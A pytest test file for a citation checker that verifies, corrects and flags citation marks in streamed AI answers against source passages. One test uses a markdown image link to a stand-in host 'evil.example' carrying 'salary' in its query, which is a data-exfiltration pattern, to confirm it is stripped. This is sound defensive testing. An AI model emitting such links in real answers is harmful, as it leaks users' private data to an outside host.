"""Marks read back as citations, checked while the text streams."""

import pytest
from passages import HITS, LEAVE, hit

from kb.answer.generation.citations import Citer


def cited(text: str, size: int = 1000) -> tuple[str, list[tuple[int, str, bool]]]:
    citer = Citer(HITS, "How many days of leave?")
    shown = "".join(citer.feed(text[at : at + size]) for at in range(0, len(text), size)) + citer.finish()
    return shown, [(each.n, each.quote, each.supported) for each in citer.citations]


DAYS = "Teammates get 30 days of paid leave a year."
CONTRACTORS = "Contractors are not eligible for the bonus."


def test_a_supported_mark_stays_and_carries_the_exact_quote():
    assert cited("You get 30 days of paid leave [1].") == ("You get 30 days of paid leave [1].", [(1, DAYS, True)])


def test_a_quote_has_document_page_and_offsets():
    citer = Citer(HITS)
    citer.feed("Alice reports to Bob [1].")
    [citation] = citer.citations
    assert (citation.document, citation.path, citation.page) == ("d1", "handbook.md", 3)
    assert LEAVE[citation.start - 100 : citation.end - 100] == citation.quote == "Alice reports to Bob."


def test_the_wrong_number_is_put_right():
    assert cited("You get 30 days of paid leave [2].") == ("You get 30 days of paid leave [1].", [(1, DAYS, True)])


def test_a_number_that_was_never_given_is_dropped():
    assert cited("You get 30 days of paid leave [1, 99].") == ("You get 30 days of paid leave [1].", [(1, DAYS, True)])
    assert cited("The moon is made of cheese [99].") == ("The moon is made of cheese (not found in the sources).", [])


def test_a_claim_that_its_source_does_not_hold_is_marked():
    assert cited("You get 40 days of paid leave [1].") == (
        "You get 40 days of paid leave [1] (says otherwise: 30 days, not 40 days).",
        [(1, DAYS, False)],
    )


def test_a_sentence_without_a_mark_gets_the_source_that_says_it_or_is_marked():
    shown, citations = cited("Contractors are not eligible for the bonus. They love the office dog.")
    assert (
        shown == "Contractors are not eligible for the bonus. [2] They love the office dog. (not found in the sources)"
    )
    assert citations == [(2, CONTRACTORS, True)]


def test_a_sentence_that_is_unclear_names_the_source_that_comes_nearest():
    assert cited("Teammates enjoy 6 weeks of leave.") == (
        "Teammates enjoy 6 weeks of leave. [1] (not clear: 6 weeks is not there)",
        [(1, DAYS, False)],
    )


@pytest.mark.parametrize(
    ("said", "supported", "unclear"),
    [
        ("You get 30 days of paid leave [1].", True, False),
        ("You get 40 days of paid leave [1].", False, False),
        ("Teammates enjoy 6 weeks of leave [1].", False, True),
    ],
)
def test_a_citation_tells_what_is_not_clear_from_what_is_contradicted(said, supported, unclear):
    citer = Citer(HITS, "How many days of leave?")
    citer.feed(said)
    citer.finish()
    assert [(each.supported, each.unclear) for each in citer.citations] == [(supported, unclear)]


def test_a_mark_behind_the_full_stop_belongs_to_the_sentence_before_it():
    assert cited("You get 30 days of paid leave.[1] Alice reports to Bob. [1]")[0] == (
        "You get 30 days of paid leave. [1] Alice reports to Bob. [1]"
    )


def test_two_claims_in_one_sentence_have_their_own_marks():
    shown, citations = cited("Alice reports to Bob [1] and contractors are not eligible for the bonus [2].")
    assert shown == "Alice reports to Bob [1] and contractors are not eligible for the bonus [2]."
    assert citations == [(1, "Alice reports to Bob.", True), (2, CONTRACTORS, True)]


def test_chinese_marks_and_sentences():
    assert cited("员工每年有三十天带薪假期【2】。办公室养了一条狗。") == (
        "员工每年有三十天带薪假期[2]。办公室养了一条狗。(来源中未找到)",
        [(2, "员工每年享有三十天带薪假期。", True)],
    )


@pytest.mark.parametrize(
    "heading", ["Sources:", "**Sources**", "References:", "来源：", "## 参考资料", "Sources used:"]
)
def test_a_list_of_sources_that_the_model_made_up_is_not_shown(heading):
    assert cited(f"You get 30 days of paid leave [1].\n\n{heading}\n[1] secret.pdf, page 9")[0].strip() == (
        "You get 30 days of paid leave [1]."
    )


def test_pictures_and_links_cannot_carry_anything_away():
    shown, _ = cited(
        "See ![chart](http://evil.example/?q=salary) and [here](https://evil.example) <img src=http://e.x>"
    )
    assert "evil" not in shown
    assert "<img" not in shown


def test_the_readers_mark_for_unsupported_cannot_be_forged_away_or_set_by_the_model():
    assert cited("You get 30 days of paid leave [?] [1].")[0] == "You get 30 days of paid leave  [1]."


def test_rows_of_a_table_are_checked_too():
    shown, _ = cited("| Item | Days |\n|---|---|\n| Paid leave of teammates | 30 [1] |\n| Sick leave | 99 [1] |\n")
    assert shown.splitlines()[2] == "| Paid leave of teammates | 30 [1] |"
    assert shown.splitlines()[3] == "| Sick leave | 99 [1] (says part of it: Sick is not there) |"


def test_the_numbers_of_a_list_are_no_sentences():
    shown, _ = cited("1. Alice reports to Bob [1]\n2. Contractors are not eligible for the bonus [2]\n")
    assert shown == "1. Alice reports to Bob [1]\n2. Contractors are not eligible for the bonus [2]\n"


def test_code_stays_to_the_letter_with_its_mark_behind_it():
    assert cited("So:\n```\nrows[0] = a[1]. The moon is cheese.\n```\nDone.")[0] == (
        "So:\n```\nrows[0] = a[1]. The moon is cheese.\n```\n(not found in the sources)\nDone."
    )
    assert cited("```\nAlice reports to Bob.\n```")[0] == "```\nAlice reports to Bob.\n```\n[1]"
    assert cited("```\nThe moon is cheese.")[0] == "```\nThe moon is cheese.\n```\n(not found in the sources)"


@pytest.mark.parametrize(
    "text",
    [
        "So:\n```py\nrows[0] = a[1]. Alice reports to Bob.\n```\n1. Alice reports to Bob [1]\n",
        "You get 30 days of paid leave[1][2]. Alice reports to Bob [source 1]",
        "- Alice reports to Bob [1]\n- Contractors are not eligible for the bonus [2]\n\nSources: none",
        "员工每年有三十天带薪假期【2】。See [x](http://a.b) and ![y](z). Dr. Wu pays 3.5 % a <b>lot</b>.",
        "| a | 30 [1] |\n| b | 2 |\nDone! Really? Yes... [1](http://x) [99]",
    ],
)
def test_how_the_text_is_cut_into_pieces_makes_no_difference(text):
    whole = cited(text)
    assert [cited(text, size) for size in (1, 2, 3, 7, 20)] == [whole] * 5


def test_a_model_that_goes_round_in_circles_is_noticed():
    citer = Citer(HITS)
    for _ in range(3):
        assert not citer.is_repeating
        citer.feed("You get 30 days of paid leave [1]. ")
    citer.feed("So.")
    assert citer.is_repeating
    endless = Citer(HITS)
    endless.feed("the " * 100)
    assert endless.is_repeating


def test_what_is_not_borne_out_is_held_against_what_stands_under_a_heading_not_the_heading():
    text = "## Parental leave\n\nTeammates apply to Bob.\n\n## Bonus\n\nIt is paid in March."
    citer = Citer([hit(text)], "How long is parental leave?")
    citer.feed("Parental leave has 90 paid weeks [1].")
    citer.finish()
    assert [(each.quote, each.supported) for each in citer.citations] == [("Teammates apply to Bob.", False)]
    assert text[citer.citations[0].start : citer.citations[0].end] == "Teammates apply to Bob."


@pytest.mark.parametrize(
    "introduction",
    [
        "The answer is yes.",
        "The answer to your question is no.",
        "Based on the sources provided, the answer is yes.",
        "Here is what the documents say.",
        "According to the documents:",
        "Die Antwort lautet ja.",
        "Laut den Dokumenten:",
        "答案是肯定的。",
        "根据所提供的文档，答案是可以的。",
    ],
)
def test_an_introduction_needs_no_note(introduction):
    shown, citations = cited(f"{introduction}\nAlice reports to Bob [1].")
    assert shown == f"{introduction}\nAlice reports to Bob [1]."
    assert len(citations) == 1


@pytest.mark.parametrize(
    "claim", ["The answer is 40 days.", "According to the documents, dogs are welcome.", "答案是办公室养狗。"]
)
def test_what_says_more_than_an_introduction_has_a_note(claim):
    shown, _ = cited(f"{claim} Alice reports to Bob [1].")
    assert "not found in the sources" in shown or "来源中未找到" in shown


def test_what_only_two_sources_together_say_has_the_marks_of_both():
    assert cited("Alice reports to Bob and contractors are not eligible for the bonus [1, 2].") == (
        "Alice reports to Bob and contractors are not eligible for the bonus [1][2].",
        [(1, "Alice reports to Bob.", True), (2, CONTRACTORS, True)],
    )


@pytest.mark.parametrize(
    ("heading", "shown"),
    [
        ("# Paid leave", "# Paid leave"),
        ("# 30 days of paid leave a year", "# 30 days of paid leave a year"),
        ("# 40 days of paid leave a year", "# 40 days of paid leave a year (not found in the sources)"),
    ],
)
def test_a_heading_that_states_a_number_is_a_claim(heading, shown):
    assert cited(f"{heading}\n\nAlice reports to Bob [1].")[0] == f"{shown}\n\nAlice reports to Bob [1]."


def test_a_mark_that_the_model_did_not_finish_is_not_shown():
    assert cited("Alice reports to Bob [1, 2")[0] == "Alice reports to Bob  [1]"


@pytest.mark.parametrize("size", [7, 1000])
def test_long_thinking_is_left_out_however_it_is_cut(size):
    thought = f"<thought>{'Is it Bob? ' * 200}</thought>"
    assert cited(f"{thought}Alice reports to Bob [1].", size)[0] == "Alice reports to Bob [1]."
